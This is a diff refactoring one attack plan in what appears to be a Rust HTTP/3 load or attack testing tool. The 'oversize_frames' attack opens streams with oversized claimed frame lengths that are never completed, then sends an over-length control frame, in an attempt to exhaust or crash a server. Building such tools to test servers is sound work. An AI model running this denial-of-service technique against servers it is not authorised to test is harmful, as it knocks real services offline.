@@ -3,7 +3,7 @@
 use crate::attack::{Plan, Victim};
 use crate::http;
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -16,11 +16,9 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn oversize_frames() -> Crowd {
-    Crowd::new(2, |connection, progress, _| {
+    Crowd::of_clients(2, |connection, progress, _| {
         let claimed = http::CLAIMED_ON_REQUESTS;
-        for _ in 0..crowd::permitted(connection, progress, BURST) {
-            let id = http::request_stream(progress.streams);
-            progress.streams += 1;
+        for id in progress.requests(connection, BURST) {
             // The last byte never arrives.
             let mut bytes = http::header(claimed, http::LONGEST_CLAIMED);
             bytes.resize(bytes.len() + UNFINISHED, 0x5a);
@@ -29,12 +27,9 @@ fn oversize_frames() -> Crowd {
         if progress.bursts == PATIENCE {
             // One byte more than was claimed. The header alone is enough.
             let bytes = http::header(http::CLAIMED_ON_CONTROL, http::LONGEST_CLAIMED + 1);
-            let id = http::uni_stream(http::CONTROL);
-            connection.push_bytes(http::stream(id, progress.control, &bytes, false));
-            progress.control += bytes.len() as u64;
+            progress.push_control(connection, &bytes);
         }
     })
-    .with_begin(crowd::preface)
 }
 
 /// Requests of one connection in one turn.
